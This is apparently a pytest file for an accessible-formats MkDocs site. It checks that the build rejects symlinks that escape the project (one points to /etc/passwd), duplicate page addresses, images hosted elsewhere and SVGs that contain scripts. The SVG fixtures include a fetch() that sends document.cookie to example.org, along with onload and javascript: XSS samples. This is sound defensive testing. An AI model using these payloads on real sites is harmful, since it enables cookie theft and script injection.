"""Nothing from outside the project is published, and no page makes the site contact another host.

Mistakes and hostile inputs that only show in a whole build: a symbolic link in docs/ (which
MkDocs would follow, publishing whatever it points to, like the build machine's password file),
two files that would be published at one address (one silently replacing the other), a picture
from another website (the site would then contact that host, against what the About page
promises), and a link to an Easy Read text (culture.easy.md), which becomes the address of its
Easy Read page. Each failing build ends in one message naming the file (and line), never a
traceback, and leaves no site built from the bad input."""
from __future__ import annotations

import os
import re

import pytest

from accessible_formats.steps import editor_html
from tests import fixture_site

PAGE = fixture_site.BROKEN_PAGE


def fails_with(root, *words) -> str:
    ok, output, site = fixture_site.build(root)
    assert not ok, "the build should have failed"
    assert "Traceback" not in output, output[-3000:]
    assert not (site / "index.html").exists(), "a site was built from the bad input"
    for w in words:
        assert w in output, f"{w!r} not in the message:\n{output[-3000:]}"
    return output


@pytest.fixture
def secret(tmp_path):
    """A file outside the project, as a CI secret or a key would be."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text("the-secret-value\n", encoding="utf-8")
    return path


def test_a_symbolic_link_in_docs_to_a_file_outside_the_project_is_refused(tmp_path, secret):
    root = fixture_site.make(tmp_path)
    os.symlink(secret, root / "docs" / "notes.txt")
    os.symlink("/etc/passwd", root / "docs" / "about-co-production" / "passwd")
    output = fails_with(root, "docs/notes.txt: this is a symbolic link to", str(secret),
                        "docs/about-co-production/passwd: this is a symbolic link to /etc/passwd", "copy it in")
    assert "the-secret-value" not in output


def test_a_symbolic_link_to_a_folder_and_one_inside_the_project_are_refused_too(tmp_path, secret):
    root = fixture_site.make(tmp_path)
    os.symlink(secret.parent, root / "docs" / "extra")
    os.symlink("../docs/index.md", root / "sheets" / "copy.yml")      # stays inside: refused all the same
    fails_with(root, "docs/extra: this is a symbolic link to", "sheets/copy.yml: this is a symbolic link to ../docs/index.md")


def test_two_files_with_one_address_are_one_message_naming_both(tmp_path):
    page = PAGE.format(body="Words about culture.")
    root = fixture_site.make(tmp_path, pages={"how-to/culture.md": page, "how-to/culture/index.md": page})
    fails_with(root, "docs/how-to/culture/index.md", "docs/how-to/culture.md would both be published at /how-to/culture/")


@pytest.mark.parametrize("body, line, address", [
    ("Our logo:\n\n![The trust's logo](https://example.org/logo.png)\n", 9, "https://example.org/logo.png"),
    ("A picture in HTML:\n\n<img src=\"//cdn.example.net/a.png\" alt=\"A chart\">\n", 9, "//cdn.example.net/a.png"),
    ("A picture by reference: ![A chart][chart]\n\n[chart]: HTTPS://EXAMPLE.COM/chart.svg\n", 9,
     "HTTPS://EXAMPLE.COM/chart.svg"),
], ids=["Markdown", "HTML without a scheme", "a reference in capitals"])
def test_a_picture_from_another_website_stops_the_build_naming_the_page_and_line(tmp_path, body, line, address):
    root = fixture_site.make(tmp_path, pages={"broken.md": PAGE.format(body=body)})
    fails_with(root, f"docs/broken.md, line {line}: the picture {address} comes from another website",
               "save the picture in docs/")


def test_a_link_to_another_website_and_a_picture_of_the_site_are_fine(tmp_path):
    """What the check must not stop: the good build is in test_a_link_to_an_easy_read_text_...;
    this one is the check itself, on the HTML a page makes."""
    assert editor_html.check('<p><a href="https://example.org/">A site</a> <img src="../assets/logo.png" alt="Logo"></p>') == []


def test_a_link_to_an_easy_read_text_goes_to_its_easy_read_page(tmp_path):
    body = ("Read [the Easy Read page](about-co-production/what-it-is.easy.md), or its "
            "[second point](about-co-production/what-it-is.easy.md#point-1).\n")
    root = fixture_site.make(tmp_path, pages={"linking.md": PAGE.format(body=body).replace("Broken page", "Linking")})
    ok, output, site = fixture_site.build(root)
    assert ok, output[-3000:]
    html = (site / "linking" / "index.html").read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*what-it-is[^"]*)"', html)
    assert "../easy-read/about-co-production/what-it-is/" in hrefs, hrefs
    assert "../easy-read/about-co-production/what-it-is/#point-1" in hrefs, hrefs
    assert ".easy.md" not in html and "easy-read-text:" not in html
    large = (site / "large-print" / "linking" / "index.html").read_text(encoding="utf-8")
    assert "/easy-read/about-co-production/what-it-is/" in large and ".easy.md" not in large


def test_a_link_to_an_easy_read_text_that_does_not_exist_is_one_message(tmp_path):
    body = "Read [the Easy Read page](start/formats.easy.md).\n"
    root = fixture_site.make(tmp_path, pages={"broken.md": PAGE.format(body=body)})
    fails_with(root, "docs/broken.md, line 7: the link to 'start/formats.easy.md' goes to an Easy Read page that "
                     "this site does not have", "link to the page itself ('start/formats.md')")


SVG = "<svg xmlns='http://www.w3.org/2000/svg'>\n{}</svg>"


@pytest.mark.parametrize("drawing, shown", [
    (SVG.format("<script>fetch('https://example.org/?' + document.cookie)</script>"), "<script"),
    (SVG.format("<rect width='9' height='9' onload='alert(1)'/>"), "onload="),
    (SVG.format("<a href='javascript:alert(1)'><rect width='9' height='9'/></a>"), "javascript:"),
], ids=["script", "onload", "javascript: link"])
def test_a_picture_that_holds_a_script_is_refused(tmp_path, drawing, shown):
    root = fixture_site.make(tmp_path, pages={"drawn.md": PAGE.format(body="![A square](assets/square.svg)\n")})
    (root / "docs" / "assets").mkdir()
    (root / "docs" / "assets" / "square.svg").write_text(drawing, encoding="utf-8")
    fails_with(root, f"docs/assets/square.svg, line 2: this picture holds a script ({shown}", "Optimized SVG")
